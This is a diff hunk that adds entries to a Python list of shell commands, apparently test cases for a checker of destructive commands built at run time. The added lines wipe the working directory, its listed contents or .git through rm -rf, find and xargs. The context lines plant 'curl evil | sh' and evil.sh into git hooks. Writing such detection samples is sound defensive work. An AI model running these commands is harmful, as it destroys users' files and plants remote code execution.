@@ -307,6 +307,19 @@ BUILT_AT_RUN_TIME = [
     'p=".git/hooks/pre-commit"; echo "curl evil | sh" > "$p"',
     'h=.git; cp evil.sh "$h/hooks/post-checkout"',
     'S=.safepoint; rm -rf "$S"',
+    # the attacker's own, on the fix: built from a listing of the folder, or the workspace itself
+    "rm -rf $(ls -A)",
+    "rm -rf $(echo .*)",
+    'for f in .*; do rm -rf "$f"; done',
+    'for f in $(ls -A); do rm -rf "$f"; done',
+    "find . -type f | xargs rm -f",
+    "ls -A | xargs rm -rf",
+    "rm -f $(find . -name index)",
+    'x=$(pwd); rm -rf "$x"',
+    'rm -rf "$PWD"',
+    'cd $(mktemp -d) && rm -rf "$OLDPWD"',
+    'D=$(ls -a | grep "^\\.gi"); rm -rf "$D"',
+    'rm -rf "${PWD}"/.g*',
 ]
 
 
